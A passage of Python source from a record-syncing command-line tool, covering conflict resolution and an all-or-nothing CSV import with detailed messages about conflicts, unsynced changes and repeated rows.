    left_out: list[str] = []  # put aside (sent, answer lost), without --include-put-aside
    try:
        if args.all:
            uids = [r.uid for r in sat.receipts([ReceiptState.REJECTED])]
        todo: list[str] = []
        asides: set[str] = set()
        for uid in dict.fromkeys(uids):
            rec = sat.receipt(uid)
            aside = rec is not None and is_put_aside(rec)
            if aside and not args.include_put_aside:
                left_out.append(uid)
                continue
            todo.append(uid)
            if aside:
                asides.add(uid)
        try:
            news = sat.resolve_many(todo, keep, seen=seen) if todo else []
        except OutpostError as exc:
            if len(todo) > 1:
                raise type(exc)(f"{exc} (none of the {len(todo)} edits was resolved: they "
                                "are resolved together or not at all; leave that one out "
                                "and run it again)") from exc
            raise
        for uid, new in zip(todo, news, strict=True):
            d: dict[str, Any] = {"uid": uid, "resolved_by": new or _nothing_sent(keep)}
            if uid in asides:  # worded as `resolve UID --keep` words it
                d["put_aside"] = True
                d["sent_again"] = bool(new)
            done.append(d)
    finally:
        sat.close()
    out: dict[str, Any] = {"resolved": done}
    if left_out:
        out["put_aside_left_out"] = left_out
    _out(args, out, "\n".join([_resolved_line(d, keep) for d in done] + (
        [_left_out_line(left_out)] if left_out else []))
         or "nothing to resolve: no edit is rejected")
    return 0


def _resolved_line(d: dict[str, Any], keep: Keep) -> str:
    """A line of ``resolve --all``: one edit resolved, as ``resolve UID --keep`` says it."""
    uid, by = d["uid"], d["resolved_by"]
    if d.get("put_aside"):
        return (f"resolved {uid}: sent again as {by}" if d["sent_again"] else
                f"resolved {uid}: dropped" + (
                    " (nothing to send again: the hub holds your values)"
                    if keep == Keep.MINE else ""))
    return f"resolved {uid}" + (" (kept theirs)" if by == "theirs" else _KEPT_YOURS
                                if by == KEPT_MINE else f" by {by}")


_KEPT_YOURS = ": kept yours (the hub has your values already: nothing sent)"
"""How ``outpost resolve`` says a keep mine with nothing to send (session 14: "kept theirs")."""


def _nothing_sent(keep: Keep) -> str:
    """``resolved_by`` of a resolution that sent nothing (as the satellite stores it)."""
    return KEPT_MINE if keep == Keep.MINE else "theirs"


def _left_out_line(left_out: list[str]) -> str:
    """The line of ``resolve --all`` naming the put-aside edits it did not resolve."""
    return (f"left out {plural(len(left_out), 'put-aside edit')} (sent, the answer lost: "
            f"perhaps already on the hub): {', '.join(left_out)}; resolve "
            f"{'it' if len(left_out) == 1 else 'each'} with `outpost resolve UID --keep "
            "mine|theirs`, or add --include-put-aside")


def _seen(args: argparse.Namespace) -> Rev | None:
    """``resolve --seen REV``: the revision ``outpost conflicts`` showed (None: not given)."""
    if args.seen is None:
        return None
    try:
        return parse_rev(args.seen.strip())
    except ValueError as exc:
        raise ConfigError(f"--seen {args.seen!r} is not a revision: give the one `outpost "
                          "conflicts` ends with (RFC 3339, e.g. "
                          "2026-01-02T03:04:05.678Z)") from exc


def _resolve_fields(args: argparse.Namespace, uid: str) -> int:
    """``resolve UID --field [TOPIC KEY ]FIELD=mine|theirs ...``: core's per-field resolution
    (the app's Apply choices): every field that conflicts named, the others of the edit
    kept as mine."""
    from core.satellite.conflicts import WHOLE, conflict_fields

    seen = _seen(args)
    sat = _open(args)
    try:
        sat.both_keys(uid)  # refuses what resolve refuses (not rejected, resolved), its words
        rec = sat.receipt(uid)
        assert rec is not None  # both_keys found it rejected
        if is_put_aside(rec):
            raise ValidationError(
                f"edit {uid} was put aside (sent, its answer lost), not refused: there is "
                f"no field to choose; `outpost resolve {uid} --keep mine` sends it again "
                "whole, --keep theirs drops it; nothing was resolved")
        picks, named = _field_picks(rec, args.field)
        for f in conflict_fields(sat, rec):
            sig = f"{f.top} {f.key}"
            if not f.conflict:
                continue
            if f.field == WHOLE:
                raise ValidationError(
                    f"{sig} conflicts as a whole record ({f.reason}): a per-field choice "
                    f"cannot settle it; use `outpost resolve {uid} --keep mine|theirs`"
                    + ("|both" if sat.both_keys(uid) else ""))
            if (sig, f.field) not in named:
                raise ValidationError(
                    f"field {f.field!r} of {sig} conflicts and was not named: add --field "
                    f"{f.field}=mine or --field {f.field}=theirs; nothing was resolved")
        choice = {sig: {name: Keep(v) for name, v in fields.items()}
                  for sig, fields in picks.items()}
        new = sat.resolve(uid, choice, seen=seen)
    finally:
        sat.close()
    kept = {f"{sig} {name}": v for sig, fields in picks.items() for name, v in fields.items()}
    mine = all(v == Keep.MINE for fields in choice.values() for v in fields.values())
    _out(args, {"uid": uid, "resolved_by": new or (KEPT_MINE if mine else "theirs"),
                "fields": kept},
         f"resolved {uid}" + (f" by {new}" if new else _KEPT_YOURS if mine
                              else " (kept theirs: nothing to send)")
         + "".join(f"\n  {k}: {v}" for k, v in kept.items()))
    return 0


def _field_picks(rec: Receipt, given: Sequence[str]
                 ) -> tuple[dict[str, dict[str, str]], set[tuple[str, str]]]:
    """``--field`` values as ``{"TOPIC KEY": {field: "mine"|"theirs"}}``, starting from every
    field of the edit kept as mine, and the (record, field) pairs named; a field named that
    the edit does not change, a record not named where two have the field, or a value not
    mine/theirs is refused."""
    out: dict[str, dict[str, str]] = {}
    owners: dict[str, list[str]] = {}
    for a in rec.acts:
        sig = f"{a.top} {a.key}"
        for name in a.arg or {}:
            out.setdefault(sig, {})[name] = "mine"
            owners.setdefault(name, []).append(sig)
    named: set[tuple[str, str]] = set()
    for g in given:
        spec, eq, value = g.rpartition("=")
        value = value.strip().lower()
        if not eq or value not in ("mine", "theirs"):
            raise ConfigError(f"--field {g!r}: write FIELD=mine or FIELD=theirs")
        parts = spec.split()
        if len(parts) == 3:
            sig, name = f"{parts[0]} {parts[1]}", parts[2]
        elif len(parts) == 1:
            name = parts[0]
            sigs = owners.get(name, [])
            if len(sigs) > 1:
                raise ConfigError(f"--field {g!r}: this edit changed {name!r} of "
                                  f"{len(sigs)} records ({', '.join(sigs)}): name the "
                                  f"record, e.g. --field '{sigs[0]} {name}={value}'")
            sig = sigs[0] if sigs else ""
        else:
            raise ConfigError(f"--field {g!r}: write FIELD=mine|theirs, or 'TOPIC KEY "
                              "FIELD=mine|theirs'")
        if name not in out.get(sig, {}):
            have = ", ".join(f"{s} {n}" if len(out) > 1 else n
                             for s, fs in out.items() for n in fs)
            raise ConfigError(f"--field {g!r}: transaction {rec.uid} does not change "
                              f"{name!r}" + (f" of {sig}" if sig else "")
                              + f"; its fields: {have or 'none (a delete: use --keep)'}")
        if (sig, name) in named:
            raise ConfigError(f"--field: {name!r} is given twice: give each field once")
        named.add((sig, name))
        out[sig][name] = value
    return out, named


def _theirs_only(sat: Satellite, rec: Any) -> dict[str, list[str]]:
    """Per record ``"TOPIC KEY"`` of ``rec`` created under a taken key, the fields their record
    has now that the edit does not set: keep mine leaves them (user review 13 F2)."""
    from core.satellite.conflicts import theirs_only
    if rec is None:
        return {}
    acts = {(a.top, a.key): a for a in rec.acts}
    out: dict[str, list[str]] = {}
    for c in rec.conflicts:
        rv = sat.record(c.top, c.key)
        only = theirs_only(replace(c, theirs=rv.confirmed if rv is not None else None),
                           acts.get((c.top, c.key)))
        if only:
            out[f"{c.top} {c.key}"] = list(only)
    return out


def _both_keys(given: Sequence[str], taken: Mapping[str, str],
               project: Project | None = None) -> dict[str, str]:
    """``--key`` values as ``{"TOPIC KEY": new key}``: ``TOPIC KEY=NEWKEY``, or a lone
    ``NEWKEY`` when one record clashed; an int topic's key in its canonical form ("0021" is
    21, as it is stored)."""
    out: dict[str, str] = {}

    def canon(sig: str, key: str) -> str:
        top = sig.split(" ", 1)[0]
        if project is None or not project.has(top):
            return key
        return project.model(top).canonical_key(key.strip())

    for g in given:
        sig, eq, key = g.rpartition("=")
        if eq and " " in sig.strip():
            sig = " ".join(sig.split(None, 1))
            out[sig] = canon(sig, key)
        elif len(taken) == 1:
            out[next(iter(taken))] = canon(next(iter(taken)), g)
        else:
            raise ConfigError(
                f"--key {g!r}: this edit created {len(taken)} records under taken keys "
                f"({', '.join(taken) or 'none'}): name each, --key 'TOPIC KEY=NEWKEY'")
    return out


def _cmd_import(args: argparse.Namespace) -> int:
    sat = _open(args)
    job = CsvImport(sat, args.topic, args.file, sheet=args.from_spreadsheet, again=args.again,
                    lines=args.lines)
    if not args.json:
        job.progress = lambda n, total: n < total and print(
            f"queued {n} of {total} rows (kept only once all are)", file=sys.stderr)
    try:
        for _ in job.steps():
            pass
    except KeyboardInterrupt:
        # Ctrl+C: said in one line, not a traceback; exit 130 as for any interrupted command
        print(f"outpost: import of {args.file} interrupted: {job.stopped()}"
              + ("" if job.uids else "; run it again"), file=sys.stderr)
        raise SystemExit(130) from None
    finally:
        sat.close()
    for note in (job.overwrite_note(), job.zone_note(), job.sheet_note()):
        if note and not args.json:
            print(f"outpost: {note}", file=sys.stderr)
    if note := job.ahead_note():  # stderr, --json too: the rows were compared otherwise
        print(f"outpost: {note}", file=sys.stderr)
    for line in job.clash_lines():  # stderr, --json too (its "conflicts" lists them all)
        print(f"outpost: {line}", file=sys.stderr)
    for line in (*job.kept_lines(), *job.own_lines(), *job.own_differs_lines(),
                 *job.unreceived_lines(),
                 *job.new_key_lines(), *job.dropped_lines(),
                 *job.repeat_lines()):
        print(f"outpost: {line}", file=sys.stderr)
    for line in job.dangling_lines():  # not refused, as `pub` does not
        print(f"outpost: warning: {line}", file=sys.stderr)
    _out(args, {"rows": job.rows, "new": job.made, "changed": job.rows - job.made,
                "unchanged": job.counts.unchanged, "overwritten": job.counts.overwrites,
                "read_as_utc": job.counts.no_zone,
                "uids": job.uids, "conflicts": job.clashes,
                "left_alone": [{"line": line, "top": top, "key": key, "fields": list(fs)}
                               for line, top, key, fs in job.counts.kept],
                "left_alone_rows": job.counts.kept_rows,
                "kept_unsynced": [{"line": line, "top": top, "key": key, "fields": list(fs)}
                                  for line, top, key, fs in job.counts.own],
                "kept_unsynced_rows": job.counts.own_rows,
                # cells with another value than your unsynced change and the one before it
                "kept_unsynced_differs": [{"line": line, "top": top, "key": key,
                                           "fields": list(cs), "sheet": cs}
                                          for line, top, key, cs in job.counts.own_differs],
                "kept_unsynced_differs_rows": job.counts.own_differs_rows,
                "skipped_not_received": [{"line": line, "top": top, "key": key}
                                         for line, top, key in job.counts.not_received],
                "skipped_not_received_rows": job.counts.unreceived_rows,
                "new_keys": [{"line": line, "top": top, "key": key}
                             for line, top, key in job.counts.new_keys],
                "new_key_rows": job.counts.new_key_rows,
                "skipped_deleted": [{"line": line, "top": top, "key": key, "deleted": who}
                                    for line, top, key, who in job.counts.dropped],
                "skipped_deleted_rows": job.counts.dropped_rows,
                "skipped_repeats": [{"line": line, "top": top, "key": key}
                                    for line, top, key in job.counts.repeats],
                "skipped_repeat_rows": job.counts.repeat_rows,
                # all their lines, as `--again --lines` takes them ("" when none)
                "skipped_repeat_lines": line_ranges(job.counts.repeat_at)}, job.summary())
    return 0


@dataclass(frozen=True)
class ImportStep:
    """How far a :class:`CsvImport` got: ``phase`` "check" (the first pass: ``done`` of
    ``size`` bytes of the file read, ``rows`` to send so far), "stage" (a staged import:
    ``rows`` of ``total`` rows made into transactions and checked, nothing queued yet),
    "queue" (the file checked, its ``total`` rows about to be queued in one commit) or
    "import" (``rows`` of ``total`` rows queued: the end)."""

    phase: str
    rows: int
    total: int
    done: int = 0
    size: int = 0


class CsvImport:
    """``outpost import TOPIC FILE``, one step at a time: the CLI runs :meth:`steps` through,
    the app one step per turn of its event loop (the window keeps painting, Cancel stops
    between two steps of the check). One parser and one set of rules and messages for both.

    The first pass reads and checks every row, keeping only the keys (for repeats): a bad
    row anywhere changes nothing. The second, one step, reads the rows again and queues
    them in transactions of at most :data:`IMPORT_BATCH` rows (:func:`_batches`), all in ONE
    local commit (:meth:`Satellite.pub_many`): memory holds one batch, not the file, and an
    import stopped half-way (an error, Ctrl+C, a crash) queues nothing, so running it again
    cannot double its keyless rows.

    ``staged`` (the app, session 11): the second pass is a step per transaction, made and
    checked in memory (:meth:`Satellite.staged`), then one step queues them all in one short
    commit: the window stays live and the sync worker's writes are not held up for the
    whole second pass; still all or nothing (a Cancel between two steps, an error, a crash
    before the commit queue nothing).
    """

    def __init__(self, sat: Satellite, topic: str, file: str, *, sheet: bool = False,
                 staged: bool = False, again: bool = False,
                 lines: Collection[int] | None = None,
                 stamp: tuple[int, int, int] | None = None):
        self.sat, self.topic, self.file = sat, topic, file
        # rows without a key equal to a record that exists are made again (else skipped)
        self.again = again
        # only the rows starting on these lines (None: all): `--lines`, the app's "Make them
        # anyway" of the repeats an import skipped
        self.lines = None if lines is None else frozenset(lines)
        # the file as an earlier import read it (its size, mtime and ctime: :func:`_stamp`):
        # refused when it changed since, as ``lines`` then may name other rows
        self.stamp = stamp
        self.sheet = sheet  # the file is from `outpost export --for-spreadsheet`
        # the app's way (Satellite.staged): a step per batch made and checked, then one short
        # commit; the CLI's: the second pass in one step, in the commit (Satellite.pub_many)
        self.staged = staged
        # rows that conflict with a change made since their _rev (each queued alone)
        self.clashes: list[dict[str, Any]] = []
        self.uids: list[str] = []  # the transactions queued
        self.rows = 0              # the rows queued (once the commit is made)
        self.made = 0              # of them, new records
        # ref values naming a record the replica does not have: (field, ref) -> (rows, eg)
        self.dangling: dict[tuple[str, str], tuple[int, str]] = {}
        self.total = 0             # the rows to queue (known after the first pass)
        self.counts = _Counts()
        #: called with (rows, total) after each transaction put in the (uncommitted) queue
        self.progress: Callable[[int, int], object] | None = None

    def steps(self) -> Iterator[ImportStep]:
        """Run the import, yielding after each chunk checked (and each transaction
        staged) and once the file is queued; closing the generator before the end stops it
        with nothing queued.

        Raises:
            ConfigError: the file cannot be read.
            ValidationError, StorageError: a bad row, or a failure while queuing
                (nothing imported either way).
        """
        sat, topic, file = self.sat, self.topic, self.file
        with _open_csv(file) as f, contextlib.ExitStack() as stack:
            before = _stamp(f)
            if self.stamp is not None and before != self.stamp:
                raise ValidationError(f"{file} changed since it was imported, so its line "
                                      "numbers may name other rows: nothing was imported; "
                                      "import it again")
            self.stamp = before
            size = before[0]
            keys = _NewKeys(sat, topic, again=self.again)
            checks = _csv_chunks(sat, topic, file, f, self.counts, check=True, keys=keys,
                                  sheet=self.sheet, lines=self.lines)
            # closed before the file is: a generator left suspended by an error below (or a
            # Cancel) would detach its reader from the closed file when collected
            stack.callback(checks.close)
            for chunk in checks:
                self.total += len(chunk)
                yield ImportStep("check", self.total, 0, min(f.tell(), size), size)
            if _stamp(f) != before:
                raise ValidationError(f"{file} changed while it was being checked: "
                                      "nothing was imported; import it again")
            # rows without a key get them now, above every int key the file names
            chunks = _csv_chunks(sat, topic, file, f, _Counts(), check=False,
                                 keys=_NewKeys(sat, topic, keys.top, again=self.again,
                                               taken=keys.named),
                                 sheet=self.sheet, lines=self.lines)
            stack.callback(chunks.close)
            batches = _batches(r for chunk in chunks for r in chunk)
            lines = (0, 0)  # the batch being queued: its first and last line
            refs = _RefCheck(sat.project.model(topic))
            clashes: list[tuple[int, dict[str, Any]]] = []  # (batch index, clash)
            rows = made = 0  # queued in the commit not yet made: kept only if it is

            def acts() -> Iterator[tuple[list[Action], Rev | None]]:
                nonlocal lines, rows, made
                for i in itertools.count():
                    try:
                        batch = next(batches, None)
                    except OutpostError as exc:  # a row that changed since it was checked
                        raise _import_failed(exc, "") from exc
                    if batch is None:
                        return
                    if _stamp(f) != before:  # what was just read may be the new text: stop
                        raise _import_failed(ValidationError(
                            f"{file} changed while it was being imported"), "")
                    lines = (batch[0].line, batch[-1].line)
                    if batch[0].clash:
                        clashes.append((i, {"line": batch[0].line, "top": batch[0].act.top,
                                            "key": batch[0].act.key, "why": batch[0].clash,
                                            "fields": list(batch[0].fields)}))
                    yield [r.act for r in batch], batch[0].base  # one _rev: _batches
                    rows += sum(1 for r in batch if not r.part)
                    made += sum(1 for r in batch if r.act.cmd == Cmd.NEW)
                    refs.add(batch)
                    if self.progress is not None:
                        self.progress(rows, self.total)

            def failed(exc: OutpostError) -> OutpostError | None:
                if str(exc).endswith(_IMPORT_AGAIN):
                    return None  # the file's own error, said by acts(): as it is
                where = f"{file} lines {lines[0]}-{lines[1]}: " if lines[0] else ""
                return _import_failed(exc, where)

            # the whole file in ONE local commit (each batch still its own transaction at
            # the hub): an import stopped half-way queues nothing, so running it again
            # cannot double its keyless rows (safety review 10, finding 3)
            if self.staged:
                # the app: a batch made and checked per step, in memory (the window paints,
                # Cancel works, the sync worker writes), then one short commit (session 11)
                ready = 0
                made_acts = acts()
                stack.callback(made_acts.close)  # before chunks (a Cancel): see checks
                try:
                    staged = sat.staged()  # a reader is refused here, as by pub_many
                    for batch, base in made_acts:
                        staged.add(batch, base)
                        ready += len(batch)
                        yield ImportStep("stage", ready, self.total, size, size)
                except OutpostError as exc:
                    if (why := failed(exc)) is None:
                        raise
                    raise why from exc
                yield ImportStep("queue", 0, self.total, size, size)
                try:
                    uids = staged.commit()
                except OutpostError as exc:
                    raise _import_failed(exc, "") from exc
            else:
                # the CLI: a step first, so that it says what the (blocking) commit does
                yield ImportStep("queue", 0, self.total, size, size)
                try:
                    uids = sat.pub_many(acts())
                except OutpostError as exc:
                    if (why := failed(exc)) is None:
                        raise
                    raise why from exc
            self.uids, self.rows, self.made = uids, rows, made
            self.clashes = [{**c, "uid": uids[i]} for i, c in clashes]
            self.dangling = refs.dangling(sat)
            yield ImportStep("import", self.rows, self.total, size, size)

    def summary(self) -> str:
        """What was imported (the CLI's last line)."""
        return (f"imported {plural(self.rows, 'row')} ({self.made:,} new, "
                f"{self.rows - self.made:,} changed) in "
                f"{plural(len(self.uids), 'transaction')}"
                + (f"; {plural(self.counts.unchanged, 'row')} unchanged"
                   if self.counts.unchanged else "")
                + (f"; {plural(len(self.clashes), 'row')} in conflict with changes made since "
                   "the export" if self.clashes else "")
                + (f"; in {plural(self.counts.kept_rows, 'row')}, fields changed since the "
                   "export kept as they are now" if self.counts.kept_rows else "")
                + (f"; in {plural(self.counts.own_rows, 'row')}, your unsynced changes kept"
                   if self.counts.own_rows else "")
                + (f"; in {plural(self.counts.own_differs_rows, 'row')}, your unsynced "
                   "changes kept over another value in the sheet (sync to see whose)"
                   if self.counts.own_differs_rows else "")
                + (f"; {plural(self.counts.unreceived_rows, 'row')} of records this replica "
                   "has not received yet skipped (sync, then import again)"
                   if self.counts.unreceived_rows else "")
                + (f"; {plural(self.counts.new_key_rows, 'row')} with a key not in the "
                   "export made new records" if self.counts.new_key_rows else "")
                + (f"; {plural(self.counts.dropped_rows, 'unchanged row')} of records "
                   "deleted since the export skipped" if self.counts.dropped_rows else ""))

    def dangling_lines(self) -> list[str]:
        """One warning per ref field whose values name records the replica does not have
        (imported anyway, as `pub` does: offline, the record may not have arrived yet)."""
        return [f"in {plural(count, 'row')}, {name} names no {ref} record this replica has "
                f"(e.g. {name}={eg}; imported anyway: it may not have arrived yet; `outpost "
                f"show {ref}` lists the keys)"
                for (name, ref), (count, eg) in self.dangling.items()]

    def clash_lines(self) -> list[str]:
        """One warning per row whose cells conflict with a change made since the file's
        ``_rev`` (at most :data:`_MOST_LINES`, then a count): those cells were queued as a
        transaction of their own, the conflict inbox's once synced."""
        out = [f"{self.file} line {c['line']} ({c['top']} {c['key']}): {c['why']} since the "
               "file was exported, and the file changes "
               + (f"{'it' if len(c['fields']) == 1 else 'them'} too" if c["fields"]
                  else "the record") + ": a conflict, queued as a transaction of its own "
               f"(uid {c['uid']})"
               + (", the row's other cells as usual" if c.get("fields") else "")
               + "; the hub will reject it: after `outpost sync --once`, `outpost conflicts` "
               f"shows both values; `outpost resolve {c['uid']} --keep mine|theirs` or "
               f"field by field `outpost resolve {c['uid']} --field FIELD=mine|theirs ...`"
               for c in self.clashes[:_MOST_LINES]]
        if len(self.clashes) > _MOST_LINES:
            out.append(f"{len(self.clashes) - _MOST_LINES} more rows conflict with changes "
                       "made since the file was exported, each queued alone (`--json` lists "
                       "them all)")
        return out

    def kept_lines(self) -> list[str]:
        """One line per row (at most :data:`_MOST_LINES`, then a count) whose cells still
        held the exported value of a field changed since: left alone, the newer value kept."""
        c = self.counts
        out = [f"{self.file} line {line} ({top} {key}): {_names(list(fields))} left as "
               f"{'it is' if len(fields) == 1 else 'they are'} now (another user changed "
               f"{'it' if len(fields) == 1 else 'them'} since the file was exported; the "
               "file has the value from before that change)"
               for line, top, key, fields in c.kept]
        if c.kept_rows > len(c.kept):
            out.append(f"{plural(c.kept_rows - len(c.kept), 'more row')} left fields changed "
                       "since the export as they are now (`--json` counts them)")
        return out

    def own_lines(self) -> list[str]:
        """One line per row of a file exported on a satellite further on whose cells hold
        the value from before this replica's own edit not yet at the hub (at most
        :data:`_MOST_LINES`, then a count): the edit kept, the cells not sent."""
        c = self.counts
        out = [f"{self.file} line {line} ({top} {key}): {_names(list(fields))} left as "
               f"you changed {'it' if len(fields) == 1 else 'them'} (your change is not "
               "synced yet, so the satellite the file was exported on did not have it; the "
               "file has the value from before it)" for line, top, key, fields in c.own]
        if c.own_rows > len(c.own):
            out.append(f"{plural(c.own_rows - len(c.own), 'more row')} left fields with your "
                       "unsynced changes as you changed them (`--json` counts them)")
        return out

    def own_differs_lines(self, sync: str = "`outpost sync --once`") -> list[str]:
        """One line per row of a file exported on a satellite further on whose cells hold
        a value other than both this replica's own edit not yet at the hub and the value
        before it (at most :data:`_MOST_LINES`, then a count): the edit kept, the cells not
        sent, as whose the value is (a colleague's change not received yet, or the sheet's
        user's) cannot be told before a sync."""
        c = self.counts
        out = [f"{self.file} line {line} ({top} {key}): "
               + "; ".join(f"{k} left as you changed it: the sheet has {cell_text(v)} from a "
                           "satellite further on" for k, v in cells.items())
               + f" (your change is not synced yet; that value is a change you have not "
               f"received, or the sheet's own): {sync} to see whose it is, then import the "
               "file again to send the sheet's" for line, top, key, cells in c.own_differs]
        if c.own_differs_rows > len(c.own_differs):
            out.append(f"{plural(c.own_differs_rows - len(c.own_differs), 'more row')} left "
                       "fields with your unsynced changes as you changed them where the "
                       "sheet has another value (`--json` counts them)")
        return out

    def unreceived_lines(self, sync: str = "`outpost sync --once`") -> list[str]:
        """One line per row skipped as its record has not reached this replica yet (the
        file is from a satellite further on; at most :data:`_MOST_LINES`, then a count)."""
        c = self.counts
        out = [f"{self.file} line {line} ({top} {key}): this replica has no record {key} yet: "
               "the file was exported on a satellite that synced later, which may have it; "
               f"skipped, not made as a new record: {sync}, then import the file again (a "
               "row you added to the sheet yourself: empty its _rev cell and import again)"
               for line, top, key in c.not_received]
        if c.unreceived_rows > len(c.not_received):
            out.append(f"{plural(c.unreceived_rows - len(c.not_received), 'more row')} of "
                       "records this replica has not received yet skipped (`--json` counts "
                       "them)")
        return out

    def dropped_lines(self) -> list[str]:
        """One line per unchanged row skipped as its record was deleted since the export (at
        most :data:`_MOST_LINES`, then a count)."""
        c = self.counts
        out = [f"{self.file} line {line} ({top} {key}): {key} was deleted since the export "
               f"{who}; the row was unchanged, skipped" for line, top, key, who in c.dropped]
        if c.dropped_rows > len(c.dropped):
            out.append(f"{plural(c.dropped_rows - len(c.dropped), 'more unchanged row')} of "
                       "records deleted since the export skipped (`--json` counts them)")
        return out

    def new_key_lines(self) -> list[str]:
        """One line per row whose key was not in the export the file's ``_rev`` names (a key
        typed or edited in the file): made a new record (at most :data:`_MOST_LINES`, then a
        count)."""
        c = self.counts
        out = [f"{self.file} line {line} ({top}): key {key} was not in the export: made a new "
               "record; to make new records leave the key empty (a record's key cannot be "
               f"changed: if you meant to, delete the new one with `outpost pub {top} {key} "
               "del`)" for line, top, key in c.new_keys]
        if c.new_key_rows > len(c.new_keys):
            out.append(f"{plural(c.new_key_rows - len(c.new_keys), 'more row')} with a key "
                       "not in the export made new records (`--json` counts them)")
        return out

    def overwrite_note(self) -> str:
        """The warning for changes made without a ``_rev`` column ("" when none)."""
        if not self.counts.overwrites:
            return ""
        return (f"the file has no {REV_COLUMN} column (written by an older version or another "
                f"program), so {plural(self.counts.overwrites, 'record')} "
                f"{'was' if self.counts.overwrites == 1 else 'were'} changed with the file's "
                "values, over any change others made since it was exported. Every export "
                f"now has the {REV_COLUMN} column: export again and edit that file to keep "
                "others' later changes")

    def zone_note(self) -> str:
        """The note for date-time cells without a zone, read as UTC ("" when none): a sheet
        typed in local time is off by the zone's offset (review 16: said nowhere)."""
        c = self.counts
        if not c.no_zone or c.no_zone_eg is None:
            return ""
        line, col, text = c.no_zone_eg
        n = c.no_zone
        return (f"{plural(n, 'date-time')} without an offset {'was' if n == 1 else 'were'} "
                f"read as UTC (e.g. line {line}, column {col}: {text.strip()[:40]!r} is "
                f"{format_rev(read_datetime(text))}). If the file's times are local times, "
                "write their offset (2026-05-01 09:30 +02:00) and import the file again: it "
                "corrects them")

    def sheet_note(self, how: str = "`outpost import --from-spreadsheet`") -> str:
        """The warning for a plain import of cells that look like an ``export
        --for-spreadsheet`` file's ("" when none): they were imported with their ``'``."""
        c = self.counts
        if not c.sheet_cells:
            return ""
        eg = c.sheet_eg if len(c.sheet_eg) <= 40 else c.sheet_eg[:40] + "…"
        return (f"the file has {plural(c.sheet_cells, 'cell')} starting with ' before = + - @ "
                f"(e.g. {eg}), as an export for a spreadsheet writes them; they were imported "
                f"with their '. If the file is such an export, import it again with {how}")

    def ahead_note(self, sync: str = "`outpost sync --once`") -> str:
        """The note for a file exported on a satellite further on ("" when not): said once,
        not per row."""
        c = self.counts
        rows = c.ahead_rows - c.unreceived_rows  # those skipped are said on their own
        if rows <= 0 or c.ahead_rev is None or c.ahead_of is None:
            return ""
        return (f"{self.file} was exported at {format_rev(c.ahead_rev)}, after this "
                f"replica's revision ({format_rev(c.ahead_of)}): it comes from a satellite "
                f"that synced later. Its {plural(rows, 'row')} were compared with the "
                "records as this replica has them and sent as changes of them, so a cell "
                "holding a change this replica has not received yet is sent too (but not "
                "one in a field you changed and have not synced yet: that satellite did not "
                "have your change, which is kept, and a value other than yours is said); the "
                "hub "
                "takes each change, or names it a conflict if the field was changed since "
                "(then choose yours or theirs; each changed row is a transaction of its own, "
                "so one conflict does not take the others with it). To compare with the "
                f"export instead, {sync} before importing")

    def repeat_lines(self, how: str = "") -> list[str]:
        """The rows without a key skipped as equal to a record that exists (the first
        :data:`_MOST_LINES`, then a count): importing a sheet again does not make its new
        rows again. ``how`` to make them anyway (default: the CLI's command, with
        ``--lines`` when the file's other keyless rows were made now: ``--again`` alone
        would make those again too)."""
        c = self.counts
        if not c.repeat_rows:
            return []
        if not how:
            how = "import with `--again`"
            if c.fresh or self.lines is not None:
                how = (f"import only those lines with `outpost import "
                       f"{shlex.quote(self.topic)} {shlex.quote(self.file)} --again --lines "
                       f"{line_ranges(c.repeat_at)}`"
                       + (" (`--again` alone would make the file's "
                          f"{plural(c.fresh, 'other row')} without a key again too)"
                          if c.fresh else ""))
        out = [f"{self.file} line {line} ({top}): the row has no key and equals record {key} "
               "in every field (made by an earlier import of the file?): skipped"
               for line, top, key in c.repeats]
        if c.repeat_rows > len(c.repeats):
            out.append(f"and {c.repeat_rows - len(c.repeats):,} more such rows")
        out.append(f"{plural(c.repeat_rows, 'row')} without a key equal to a whole record "
                   f"that exists {'was' if c.repeat_rows == 1 else 'were'} skipped, so that "
                   "importing a sheet again does not make its new rows again; to make them "
                   f"anyway, {how}")
        return out

    def stopped(self) -> str:
        """What a stop before the end (a Cancel, Ctrl+C) left: nothing, or everything (the
        file is queued in one commit: :meth:`Satellite.pub_many`)."""
        if not self.uids:
            return "nothing was imported (an import is queued whole or not at all)"
        return (f"the whole file was queued ({plural(self.rows, 'row')}, "
                f"{plural(len(self.uids), 'transaction')})")


def line_ranges(lines: Iterable[int]) -> str:
    """``2-4,7``: line numbers as `outpost import --lines` takes them."""
    out: list[str] = []
    start = prev = -2
    for n in sorted(set(lines)):
        if n != prev + 1:
            if start >= 0:
                out.append(str(start) if start == prev else f"{start}-{prev}")
            start = n
        prev = n
    if start >= 0:
        out.append(str(start) if start == prev else f"{start}-{prev}")
    return ",".join(out)


def _line_set(text: str) -> frozenset[int]:
    """`--lines 2-4,7`: the line numbers (argparse's type: a bad list is its error)."""
    out: set[int] = set()
    try:
        for part in text.split(","):
            a, _, b = part.strip().partition("-")
            lo, hi = int(a), int(b or a)
            if lo < 1 or hi < lo or hi - lo > 10_000_000:
                raise ValueError(part)
            out.update(range(lo, hi + 1))
    except ValueError:
        raise argparse.ArgumentTypeError(
            f"{text!r} is not a list of line numbers: write e.g. 2-4,7") from None
    return frozenset(out)


class _RefCheck:
    """The ref values an import queued, to warn of those naming a record the replica does
    not have once every row is queued (a row may name one a later row makes), as `pub` warns
    of its own: per ref field, its distinct keys."""

    def __init__(self, model: Any):
        self.fields = {f.name: f.ref for f in model.fields if f.type == "ref"}
        self.rows: dict[str, dict[str, int]] = {name: {} for name in self.fields}

    def add(self, batch: Sequence[_Row]) -> None:
        if not self.fields:
            return
        for row in batch:
            for name, value in (row.act.arg or {}).items():
                if name in self.fields and value not in (None, ""):
                    k = str(value)
                    self.rows[name][k] = self.rows[name].get(k, 0) + 1

    def dangling(self, sat: Satellite) -> dict[tuple[str, str], tuple[int, str]]:
        """(field, ref topic) -> (rows naming a missing record, one such key)."""
        out: dict[tuple[str, str], tuple[int, str]] = {}
        for name, ref in self.fields.items():
            named = self.rows[name]
            if not named or not sat.project.has(ref):
                continue
            there = sat.records_of(ref, list(named))
            missing = [k for k in named
                       if (rv := there.get(k)) is None or rv.fields is None]
            if missing:
                out[(name, ref)] = (sum(named[k] for k in missing), missing[0])
        return out


class _NewKeys:
    """Keys for a CSV's rows with an empty key cell: ``Satellite.new_key`` (a UUIDv7, or for
    an int-keyed topic one above every key the satellite knows), and for an int-keyed topic
    the next ones counted up from it, and from above ``floor`` (the greatest int key the
    file names, found by the first pass: :meth:`saw`), so that no two rows get one key.
    Before session 9 every empty cell got a UUID, which an int-keyed topic refuses."""

    def __init__(self, sat: Satellite, topic: str, floor: int = 0, again: bool = False,
                 taken: set[int] | None = None):
